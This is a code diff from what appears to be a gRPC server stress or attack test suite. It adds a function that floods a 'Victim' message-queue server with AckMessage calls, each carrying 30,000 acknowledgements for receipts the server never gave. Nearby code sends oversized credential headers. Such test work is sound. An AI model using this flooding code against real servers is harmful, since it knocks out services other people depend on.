@@ -27,6 +27,7 @@ _HALF_BYTES: Final = 16 * 1024
 _HALF_SENDERS: Final = 4
 _TURN_S: Final = 0.05
 _CREDENTIAL_BYTES: Final = 60_000
+_ACKNOWLEDGED: Final = 30_000
 
 
 async def streams_that_never_read(victim: Victim) -> None:
@@ -132,6 +133,21 @@ async def long_credentials(victim: Victim) -> None:
         yield _GREETING
         for number in range(1, frames.NUMBER_MAX, 2):
             yield _call(number, "QueryRoute", client, b"", ((b"authorization", evil),))
+
+    await _each(lambda client: send(victim.grpc, pieces(client), _TURN_S))
+
+
+async def acknowledgements_of_many(victim: Victim) -> None:
+    """Forty connections acknowledge 30 000 receipts in each call, none of which the server gave."""
+    request = kind("AckMessageRequest")(group={"name": "group"}, topic={"name": _TOPIC})
+    for _ in range(_ACKNOWLEDGED):
+        request.entries.add()
+    raw = bytes(request.SerializeToString())
+
+    def pieces(client: str) -> Iterator[bytes]:
+        yield _GREETING
+        for number in range(1, frames.NUMBER_MAX, 2):
+            yield _call(number, "AckMessage", client, raw)
 
     await _each(lambda client: send(victim.grpc, pieces(client), _TURN_S))
 
